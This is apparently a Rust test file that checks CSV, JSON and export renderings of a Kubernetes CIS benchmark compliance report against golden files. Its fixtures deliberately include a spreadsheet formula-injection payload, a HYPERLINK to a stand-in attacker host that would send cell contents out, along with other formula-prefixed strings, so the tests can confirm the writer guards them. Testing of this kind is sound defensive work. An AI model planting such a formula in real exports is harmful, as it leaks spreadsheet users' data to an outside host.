//! The five downloads of a small hand-built report, compared with the committed files in
//! `tests/golden/`, which are the reviewed specification of the output.
//!
//! `UPDATE_GOLDEN=1 cargo test -p compliance-core --test core render_golden` rewrites them from the current
//! output; review the diff before committing.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use compliance_core::model::global_report::{CisBenchmarkParams, GlobalReportType};
use compliance_core::model::{
    AppliedCisParams, CisBenchmarkNode, CisBenchmarkSummary, GlobalReportSpec, NodeSummary,
    Provenance, Rating, ReportDocument, SectionResult, TestResult, TestStatus, TestText, time,
};
use compliance_core::render::{self, Download, RenderError};

// Realistic kube-bench texts, each carrying one of the hazards the CSV writer must
// survive: line breaks, commas, double quotes, formula prefixes and non-ASCII text.
const D111: &str = "Ensure that the API server pod specification file permissions are set to 600 or more restrictive (Automated)";
const I111: &str = "Run the below command (based on the file location on your system) on the control plane node.\nFor example, chmod 600 /etc/kubernetes/manifests/kube-apiserver.yaml";
const D119: &str = "Ensure that the Container Network Interface file permissions are set to 600 or more restrictive (Manual)";
const I119: &str = "Run the below command (based on the file location on your system) on the control plane node.\nFor example, chmod 600 <path/to/cni/files>";
const D121: &str = "Ensure that the --anonymous-auth argument is set to false (Manual)";
const I121: &str = "Edit the API server pod specification file /etc/kubernetes/manifests/kube-apiserver.yaml on the control plane node and set the below parameter.\n--anonymous-auth=false";
const D122: &str =
    "Überprüfen — 日本語: Ensure that the --token-auth-file parameter is not set (Automated)";
const I122: &str = "+ Follow the documentation and configure alternate mechanisms for authentication, then remove the --token-auth-file=<filename> parameter.";
const D1210: &str = "=HYPERLINK(\"https://attacker.example/?q=\"&A1,\"Ensure that the admission control plugin EventRateLimit is set (Manual)\")";
const I1210: &str = "@SUM(1+1) Follow the Kubernetes documentation, set the desired limits in a configuration file, \"then\" edit the API server pod specification file";
const D411: &str = "Ensure that the kubelet service file permissions are set to 600 or more restrictive (Automated)";
const I411: &str = "-Run the below command (based on the file location on your system) on each worker node, for example chmod 600 /etc/systemd/system/kubelet.service.d/10-kubeadm.conf";
const D421: &str = "Ensure that the --anonymous-auth argument is set to false (Automated)";
const I421: &str = "If using a Kubelet config file, edit the file to set `authentication: anonymous: enabled` to\n`false`.";
const D422: &str =
    "Ensure that the --authorization-mode argument is not set to AlwaysAllow (Automated)";
const I422: &str =
    "If using a Kubelet config file, edit the file to set `authorization.mode` to Webhook.";
const D423: &str = "Ensure that the --client-ca-file argument is set as appropriate (Automated)";
const I423: &str = "";
const D413: &str = "If proxy kubeconfig file exists ensure permissions are set to 600 or more restrictive (Manual)";
const I413: &str = "Run the below command (based on the file location on your system) on each worker node.\nFor example,\nchmod 600 /etc/kubernetes/proxy.conf";

fn text(section: &str, section_desc: &str, number: &str, desc: &str, info: &str) -> Arc<TestText> {
    Arc::new(TestText {
        section: section.into(),
        section_desc: section_desc.into(),
        test_number: number.into(),
        test_desc: desc.into(),
        test_info: info.into(),
    })
}

fn test(t: &Arc<TestText>, status: TestStatus, scored: bool) -> TestResult {
    TestResult {
        text: t.clone(),
        status,
        scored,
        waiver: None,
    }
}

/// A section whose counts and rating are given, as the report core would have computed
/// them; the renderer must print them, not recompute them.
fn section(
    number: &str,
    desc: &str,
    status: Rating,
    (pass, fail, info): (u64, u64, u64),
    results: Vec<TestResult>,
) -> SectionResult {
    SectionResult {
        status,
        section: number.into(),
        desc: desc.into(),
        pass,
        fail,
        info,
        results,
        waived: 0,
    }
}

fn node(
    name: &str,
    (kubernetes, benchmarks): (&str, &str),
    status: Rating,
    (pass, fail, info): (u64, u64, u64),
    results: Vec<SectionResult>,
) -> CisBenchmarkNode {
    CisBenchmarkNode {
        node_name: name.into(),
        kubernetes_version: kubernetes.into(),
        benchmarks_version: benchmarks.into(),
        summary: NodeSummary {
            status,
            total_pass: pass,
            total_fail: fail,
            total_info: info,
            total: pass + fail,
            waived: 0,
            status_without_waivers: None,
        },
        results,
        error: String::new(),
        no_results: false,
        last_result_time: None,
        platform: String::new(),
        kube_bench_version: String::new(),
        benchmarker_version: String::new(),
        benchmark_choice: String::new(),
    }
}

/// Six nodes, highThreshold 75 (set), medThreshold 50 (default), numFailedTests 3,
/// notObservedAs info (default):
/// - ip-10-0-1-7: control plane, 2 pass / 3 fail (one unscored) = 40% → LOW
/// - ip-10-0-1-8: control plane, 3 pass / 1 fail / 1 warn = 75% → HIGH (on the threshold)
/// - ip-10-0-2-9: worker, other benchmark version, 2 pass / 1 fail / 1 info / 1 not
///   observed (counted as info) = 66% → MED
/// - ip-10-0-3-1: its benchmark run failed: no results → LOW
/// - ip-10-0-4-2: expected, but no result in the look-back (its last one is older) → LOW
/// - ip-10-0-4-3: expected, never reported → LOW
///
/// The first three carry the provenance of their runs; the others none.
fn report() -> ReportDocument {
    const CP_FILES: &str = "Control Plane Node Configuration Files";
    const API: &str = "API Server";
    const W_FILES: &str = "Worker Node Configuration Files";
    const KUBELET: &str = "Kubelet";
    let t111 = text("1.1", CP_FILES, "1.1.1", D111, I111);
    let t119 = text("1.1", CP_FILES, "1.1.9", D119, I119);
    let t121 = text("1.2", API, "1.2.1", D121, I121);
    let t122 = text("1.2", API, "1.2.2", D122, I122);
    let t1210 = text("1.2", API, "1.2.10", D1210, I1210);
    let t411 = text("4.1", W_FILES, "4.1.1", D411, I411);
    let t421 = text("4.2", KUBELET, "4.2.1", D421, I421);
    let t422 = text("4.2", KUBELET, "4.2.2", D422, I422);
    let t423 = text("4.2", KUBELET, "4.2.3", D423, I423);
    let t413 = text("4.1", W_FILES, "4.1.3", D413, I413);
    use Rating::{High, Low, Med};
    use TestStatus::{Fail, Info, NotObserved, Pass, Warn};
    let at = |s: &str| time::parse(s).unwrap();
    let ran = |n: &mut CisBenchmarkNode, platform: &str, choice: &str, when: &str| {
        n.platform = platform.into();
        n.kube_bench_version = "0.10.1".into();
        n.benchmarker_version = "1.4.0".into();
        n.benchmark_choice = choice.into();
        n.last_result_time = Some(at(when));
    };

    let mut errored = node("ip-10-0-3-1", ("", ""), Low, (0, 0, 0), vec![]);
    errored.error = "kubelet not found: cannot determine the Kubernetes version".into();
    let mut stale = node("ip-10-0-4-2", ("", ""), Low, (0, 0, 0), vec![]);
    stale.no_results = true;
    stale.last_result_time = Some(at("2026-11-22T06:00:00Z"));
    let mut never = node("ip-10-0-4-3", ("", ""), Low, (0, 0, 0), vec![]);
    never.no_results = true;
    let mut nodes = vec![
        node(
            "ip-10-0-1-7",
            ("1.29.3", "cis-1.9"),
            Low,
            (2, 3, 0),
            vec![
                section(
                    "1.1",
                    CP_FILES,
                    Med,
                    (1, 1, 0),
                    vec![test(&t111, Pass, true), test(&t119, Fail, false)],
                ),
                section(
                    "1.2",
                    API,
                    Low,
                    (1, 2, 0),
                    vec![
                        test(&t121, Fail, true),
                        test(&t122, Pass, true),
                        test(&t1210, Fail, true),
                    ],
                ),
            ],
        ),
        node(
            "ip-10-0-1-8",
            ("1.29.3", "cis-1.9"),
            High,
            (3, 1, 1),
            vec![
                section(
                    "1.1",
                    CP_FILES,
                    High,
                    (1, 0, 1),
                    vec![test(&t111, Pass, true), test(&t119, Warn, false)],
                ),
                section(
                    "1.2",
                    API,
                    Med,
                    (2, 1, 0),
                    vec![
                        test(&t121, Fail, true),
                        test(&t122, Pass, true),
                        test(&t1210, Pass, true),
                    ],
                ),
            ],
        ),
        node(
            "ip-10-0-2-9",
            ("1.28.7", "cis-1.8"),
            Med,
            (2, 1, 2),
            vec![
                section(
                    "4.1",
                    W_FILES,
                    High,
                    (1, 0, 1),
                    vec![test(&t411, Pass, true), test(&t413, NotObserved, false)],
                ),
                section(
                    "4.2",
                    KUBELET,
                    Med,
                    (1, 1, 1),
                    vec![
                        test(&t421, Fail, true),
                        test(&t422, Pass, true),
                        test(&t423, Info, false),
                    ],
                ),
            ],
        ),
        errored,
        stale,
        never,
    ];
    ran(
        &mut nodes[0],
        "kubernetes",
        "kubernetes 1.29 → cis-1.9",
        "2026-11-25T10:00:00Z",
    );
    ran(
        &mut nodes[1],
        "kubernetes",
        "kubernetes 1.29 → cis-1.9",
        "2026-11-25T10:00:03Z",
    );
    ran(
        &mut nodes[2],
        "eks",
        "=eks 1.28, no EKS benchmark for 1.28 → cis-1.8",
        "2026-11-24T23:59:59Z",
    );
    let mut doc = ReportDocument {
        id: "daily-cis-results_cis-benchmark_6f1c1f2e-5b4a-5d3e-9c1a-2b7f0e4d8a91".into(),
        report_name: "daily-cis-results".into(),
        report_type_name: "cis-benchmark".into(),
        report_spec: GlobalReportSpec {
            report_type: "cis-benchmark".into(),
            schedule: Some("0 0 * * *".into()),
            cis: Some(CisBenchmarkParams {
                high_threshold: Some(75),
                num_failed_tests: Some(3),
                ..Default::default()
            }),
            ..Default::default()
        },
        report_type_spec: GlobalReportType::builtin_cis_benchmark().spec,
        start_time: at("2026-11-25T00:00:00Z"),
        end_time: at("2026-11-26T00:00:00Z"),
        generation_time: at("2026-11-26T00:30:12Z"),
        cis_benchmark_summary: CisBenchmarkSummary {
            kind: "kube".into(),
            high_count: 1,
            med_count: 1,
            low_count: 4,
            no_results_count: 2,
            waived_count: 0,
            without_waivers: None,
        },
        cis_benchmark: nodes,
        ui_summary: String::new(),
        cluster: "cluster".into(),
        generated_time: at("2026-11-26T00:30:12Z"),
        provenance: None,
        waivers: Vec::new(),
    };
    doc.ui_summary = compliance_core::report::ui_summary(&doc).unwrap();
    doc
}

fn render(download: Download, doc: &ReportDocument) -> String {
    let mut buf = Vec::new();
    render::write_download(download, doc, &mut buf).unwrap();
    String::from_utf8(buf).unwrap()
}

fn golden_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name)
}

/// Lines on either side of the first difference shown by [`diff`].
const CONTEXT: usize = 3;

/// A readable account of how `actual` differs from `expected`: the first differing line
/// with its number and a few lines around it from both sides. Lines are printed with
/// `{:?}` so that a stray `\r`, tab or trailing space is visible.
fn diff(expected: &str, actual: &str) -> Option<String> {
    if expected == actual {
        return None;
    }
    let exp: Vec<&str> = expected.split('\n').collect();
    let act: Vec<&str> = actual.split('\n').collect();
    let first = exp
        .iter()
        .zip(&act)
        .position(|(e, a)| e != a)
        .unwrap_or(exp.len().min(act.len()));
    let from = first.saturating_sub(CONTEXT);
    let mut out = format!(
        "first difference at line {} (expected {} lines, got {})\n",
        first + 1,
        expected.lines().count(),
        actual.lines().count()
    );
    for (label, lines) in [("expected", &exp), ("actual", &act)] {
        out.push_str(&format!("--- {label}\n"));
        let to = (first + CONTEXT + 1).min(lines.len());
        for (i, line) in lines.iter().enumerate().take(to).skip(from) {
            let mark = if i == first { '>' } else { ' ' };
            out.push_str(&format!("{mark}{:>5} | {line:?}\n", i + 1));
        }
        if first >= lines.len() {
            out.push_str(&format!(">{:>5} | <end of file>\n", first + 1));
        }
    }
    Some(out)
}

pub(crate) fn check_golden(name: &str, actual: &str) {
    let path = golden_path(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v != "0") {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_GOLDEN=1 creates it)", path.display()));
    if let Some(d) = diff(&expected, actual) {
        panic!(
            "{} does not match the rendered {name}\n{d}\
             If the new output is right, rerun with UPDATE_GOLDEN=1 and review the change.",
            path.display()
        );
    }
}

#[test]
fn downloads_match_golden_files() {
    let doc = report();
    for &download in Download::all().iter().chain(Download::always()) {
        check_golden(download.file_name(), &render(download, &doc));
    }
}

/// The report of [`report`] with what only the exports show: a test text no XML 1.0
/// document can carry as it is (kube-bench copies command output into its texts, escape
/// sequences included), a NOT_OBSERVED test, a node with no result in the look-back,
/// and the provenance of nodes and report.
fn report_for_exports() -> ReportDocument {
    let mut doc = report();
    let t = &mut doc.cis_benchmark[2].results[1].results[2];
    let mut text = (*t.text).clone();
    text.test_info =
        "Check the output of\u{1b}[0m `kubelet --help`\u{0}: it must list\r\nthe flag".into();
    t.text = Arc::new(text);
    doc.cis_benchmark[1].results[1].results[2].status = TestStatus::NotObserved;
    let at = |s: &str| time::parse(s).unwrap();
    for n in &mut doc.cis_benchmark[..3] {
        n.last_result_time = Some(at("2026-11-25T23:10:00Z"));
        n.platform = "eks".into();
        n.kube_bench_version = "0.10.1".into();
        n.benchmarker_version = "0.1.0".into();
        n.benchmark_choice = "platform eks 1.29 → eks-1.5.0".into();
    }
    let mut gone = node("ip-10-0-4-2", ("", ""), Rating::Low, (0, 0, 0), vec![]);
    gone.no_results = true;
    gone.last_result_time = Some(at("2026-11-20T06:00:00Z"));
    doc.cis_benchmark.push(gone);
    doc.cis_benchmark_summary.low_count += 1;
    doc.cis_benchmark_summary.no_results_count = 1;
    doc.provenance = Some(Provenance {
        reporter_version: "0.1.0".into(),
        query_start: at("2026-11-24T12:00:00Z"),
        query_end: at("2026-11-26T00:00:00Z"),
        cis: AppliedCisParams::from(&doc.report_spec.cis_params().unwrap()),
        expected_nodes_from: vec!["nodes".into()],
    });
    doc
}

/// The exports (docs/exports.md) of the same report, byte for byte.
#[test]
fn exports_match_golden_files() {
    let doc = report_for_exports();
    for &download in Download::exports() {
        let first = render(download, &doc);
        check_golden(download.file_name(), &first);
        assert_eq!(render(download, &doc), first, "{download} is deterministic");
    }
}

/// docs/spec.md §6: the header Calico Enterprise's real template wrote, not the
/// `hiPercentage…` spelling of its documentation.
#[test]
fn total_summary_header_is_the_one_calicos_template_wrote() {
    let total = render(Download::TotalSummary, &report());
    assert_eq!(
        total.lines().next(),
        Some(
            "startTime,endTime,type,hiPercentThreshold,medPercentThreshold,hiNodeCount,medNodeCount,lowNodeCount"
        )
    );
}

#[test]
fn defaults_apply_when_spec_has_no_cis_section() {
    let mut doc = report();
    doc.report_spec.cis = None;
    let total = render(Download::TotalSummary, &doc);
    assert_eq!(
        total,
        "startTime,endTime,type,hiPercentThreshold,medPercentThreshold,hiNodeCount,medNodeCount,lowNodeCount\r\n\
         2026-11-25T00:00:00Z,2026-11-26T00:00:00Z,kube,100,50,1,1,4\r\n"
    );
    let ui: serde_json::Value =
        serde_json::from_str(&compliance_core::report::ui_summary(&doc).unwrap()).unwrap();
    let descs: Vec<&str> = ui["widgets"][0]["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["desc"].as_str().unwrap())
        .collect();
    assert_eq!(
        descs,
        [
            "Nodes with 100% tests passing",
            "Nodes with 50% or more tests passing",
            "Nodes with less than 50% tests passing",
        ]
    );
    // Default numFailedTests is 5: all four failed tests fit.
    assert_eq!(
        ui["widgets"][1]["topFailedTests"]["tests"]
            .as_array()
            .unwrap()
            .len(),
        4
    );
}

#[test]
fn all_tests_round_trips_through_a_csv_reader() {
    let doc = report();
    let text = render(Download::AllTests, &doc);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(
        reader.headers().unwrap(),
        vec![
            "nodeName",
            "testIndex",
            "testDescription",
            "status",
            "scored",
            "remediation"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let expected: Vec<(&CisBenchmarkNode, &TestResult)> = doc
        .cis_benchmark
        .iter()
        .flat_map(|n| {
            n.results
                .iter()
                .flat_map(move |s| s.results.iter().map(move |t| (n, t)))
        })
        .collect();
    assert_eq!(rows.len(), expected.len());
    let unguard = |cell: &str, original: &str| -> String {
        if original.starts_with(['=', '+', '-', '@']) {
            cell.strip_prefix('\'').expect("guarded cell").to_string()
        } else {
            cell.to_string()
        }
    };
    for (row, (n, t)) in rows.iter().zip(expected) {
        assert_eq!(&row[0], n.node_name);
        assert_eq!(&row[1], t.test_number());
        assert_eq!(unguard(&row[2], &t.text.test_desc), t.text.test_desc);
        assert_eq!(&row[3], t.status.as_str());
        assert_eq!(&row[4], if t.scored { "true" } else { "false" });
        assert_eq!(unguard(&row[5], &t.text.test_info), t.text.test_info);
    }
}

#[test]
fn failed_tests_hold_exactly_the_fail_rows() {
    let doc = report();
    let text = render(Download::FailedTests, &doc);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(&r[3], "FAIL");
            (r[0].to_string(), r[1].to_string())
        })
        .collect();
    let pairs: Vec<(&str, &str)> = rows.iter().map(|(a, b)| (&a[..], &b[..])).collect();
    assert_eq!(
        pairs,
        [
            ("ip-10-0-1-7", "1.1.9"),
            ("ip-10-0-1-7", "1.2.1"),
            ("ip-10-0-1-7", "1.2.10"),
            ("ip-10-0-1-8", "1.2.1"),
            ("ip-10-0-2-9", "4.2.1"),
        ]
    );
}

#[test]
fn ui_summary_has_the_exact_structure() {
    let doc = report();
    let ui: serde_json::Value = serde_json::from_str(&doc.ui_summary).unwrap();
    let keys =
        |v: &serde_json::Value| -> Vec<String> { v.as_object().unwrap().keys().cloned().collect() };
    // serde_json's map is ordered by key here, so compare sets; the golden file pins the
    // order as written.
    let mut top = keys(&ui);
    top.sort();
    assert_eq!(top, ["heading", "type", "widgets"]);
    assert_eq!(ui["heading"], "Kubernetes CIS Benchmark");
    assert_eq!(ui["type"], "row");
    let widgets = ui["widgets"].as_array().unwrap();
    assert_eq!(widgets.len(), 2);

    let nodes = &widgets[0];
    assert_eq!(nodes["heading"], "Node Failure Summary");
    assert_eq!(nodes["type"], "cis-benchmark-nodes");
    assert_eq!(
        nodes["summary"],
        serde_json::json!({"label": "Total", "total": 6})
    );
    assert_eq!(
        nodes["data"],
        serde_json::json!([
            {"label": "HIGH", "value": 1, "desc": "Nodes with 75% or more tests passing"},
            {"label": "MED", "value": 1, "desc": "Nodes with 50% or more tests passing"},
            {"label": "LOW", "value": 4, "desc": "Nodes with less than 50% tests passing"},
        ])
    );

    let tests = &widgets[1];
    assert_eq!(tests["heading"], "Top Failed Tests");
    assert_eq!(tests["type"], "cis-benchmark-tests");
    // numFailedTests 3: 1.2.1 failed on two nodes; the ties at one node are broken by
    // dotted order (1.1.9 < 1.2.10 < 4.2.1), and 4.2.1 falls off.
    assert_eq!(
        tests["topFailedTests"],
        serde_json::json!({"tests": [
            {"index": "1.2.1", "description": D121, "failedCount": 2},
            {"index": "1.1.9", "description": D119, "failedCount": 1},
            {"index": "1.2.10", "description": D1210, "failedCount": 1},
        ]})
    );
}

#[test]
fn ui_summary_download_writes_the_stored_text() {
    let mut doc = report();
    doc.ui_summary = r#"{"heading": "as stored by Calico"}"#.into();
    assert_eq!(
        render(Download::UiSummary, &doc),
        "{\"heading\": \"as stored by Calico\"}\n"
    );
    doc.ui_summary.clear();
    assert_eq!(
        render(Download::UiSummary, &doc),
        format!("{}\n", report().ui_summary)
    );
}

#[test]
fn empty_report_still_has_headers_and_both_widgets() {
    let mut doc = report();
    doc.cis_benchmark.clear();
    doc.cis_benchmark_summary.high_count = 0;
    doc.cis_benchmark_summary.med_count = 0;
    doc.cis_benchmark_summary.low_count = 0;
    assert_eq!(
        render(Download::NodeSummary, &doc),
        "node,version,status,testsPassing,testsFailing,testsUnknown,testsTotal\r\n"
    );
    assert_eq!(
        render(Download::AllTests, &doc),
        "nodeName,testIndex,testDescription,status,scored,remediation\r\n"
    );
    let ui: serde_json::Value =
        serde_json::from_str(&compliance_core::report::ui_summary(&doc).unwrap()).unwrap();
    assert_eq!(ui["widgets"][0]["summary"]["total"], 0);
    assert_eq!(
        ui["widgets"][1]["topFailedTests"],
        serde_json::json!({"tests": []})
    );
}

#[test]
fn invalid_stored_spec_is_a_typed_error() {
    let mut doc = report();
    doc.report_spec.cis.as_mut().unwrap().med_threshold = Some(80);
    let err = render::write_download(Download::TotalSummary, &doc, Vec::new()).unwrap_err();
    assert!(matches!(err, RenderError::InvalidSpec { .. }), "{err:?}");
    assert!(err.to_string().contains(&doc.id), "{err}");
    assert!(err.to_string().contains("spec.cis.medThreshold"), "{err}");
}

#[test]
fn diff_points_at_the_first_differing_line() {
    let d = diff("a\nb\nc\nd\n", "a\nb\nX\nd\n").unwrap();
    assert!(d.starts_with("first difference at line 3"), "{d}");
    assert!(d.contains(">    3 | \"c\""), "{d}");
    assert!(d.contains(">    3 | \"X\""), "{d}");
    let short = diff("a\nb\nc", "a\nb").unwrap();
    assert!(short.contains("<end of file>"), "{short}");
    assert_eq!(diff("same", "same"), None);
}

/// With `notObservedAs: fail` the report counts NOT_OBSERVED tests as failures, and Top
/// Failed Tests lists them; `failed-tests.csv` then holds them too, with their own status,
/// so the file and the list agree.
#[test]
fn failed_tests_follow_how_the_report_counted_not_observed() {
    let mut doc = report();
    // Default (info): the NOT_OBSERVED test is not a failure.
    assert!(!render(Download::FailedTests, &doc).contains("NOT_OBSERVED"));
    assert!(render(Download::AllTests, &doc).contains(",4.1.3,"));
    doc.report_spec.cis.as_mut().unwrap().not_observed_as = Some("fail".into());
    let text = render(Download::FailedTests, &doc);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<(String, String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_string(), r[1].to_string(), r[3].to_string())
        })
        .collect();
    assert!(rows.contains(&("ip-10-0-2-9".into(), "4.1.3".into(), "NOT_OBSERVED".into())));
    assert_eq!(rows.len(), 6);
    // Every test Top Failed Tests counts has its rows in the file, as many as it counts.
    let params = doc.report_spec.cis_params().unwrap();
    let top = compliance_core::report::top_failed_tests(
        &doc.cis_benchmark,
        usize::MAX,
        params.not_observed_as,
    );
    for t in &top {
        let n = rows.iter().filter(|r| r.1 == t.index).count() as u64;
        assert_eq!(n, t.failed_count, "{}", t.index);
    }
    assert_eq!(
        top.iter().map(|t| t.failed_count).sum::<u64>(),
        rows.len() as u64
    );
    // The rules recorded in the provenance win over the stored spec: they are the
    // rules the counts followed.
    let mut recorded = report();
    recorded.provenance = Some(compliance_core::model::Provenance {
        reporter_version: "1.4.0".into(),
        query_start: recorded.start_time,
        query_end: recorded.end_time,
        cis: compliance_core::model::AppliedCisParams {
            high_threshold: 75,
            med_threshold: 50,
            include_unscored_tests: true,
            num_failed_tests: 3,
            not_observed_as: compliance_core::model::NotObservedAs::Fail,
        },
        expected_nodes_from: vec!["nodes".into()],
    });
    assert_eq!(render(Download::FailedTests, &recorded), text);
}

/// docs/spec.md §6: nodes without results are rows of `node-summary.csv` like any other,
/// LOW with nothing counted, in the columns Calico's template had.
#[test]
fn nodes_without_results_are_low_rows_with_zero_counts() {
    let text = render(Download::NodeSummary, &report());
    assert!(text.contains("\r\nip-10-0-4-2,,LOW,0,0,0,0\r\n"), "{text}");
    assert!(text.ends_with("\r\nip-10-0-4-3,,LOW,0,0,0,0\r\n"), "{text}");
}

/// A report of an earlier release or of Calico Enterprise recorded no provenance: every
/// node is still a row, with empty cells.
#[test]
fn node_provenance_of_a_report_that_recorded_none() {
    let mut doc = report();
    for n in &mut doc.cis_benchmark {
        n.platform.clear();
        n.kube_bench_version.clear();
        n.benchmarker_version.clear();
        n.benchmark_choice.clear();
        n.last_result_time = None;
        n.no_results = false;
    }
    let text = render(Download::NodeProvenance, &doc);
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        lines[0],
        "node,platform,benchmark,kubernetesVersion,kubeBenchVersion,benchmarkerVersion,benchmarkChoice,lastResultTime,noResults"
    );
    assert_eq!(lines[1], "ip-10-0-1-7,,cis-1.9,1.29.3,,,,,false");
    assert_eq!(lines.len(), doc.cis_benchmark.len() + 2);
}
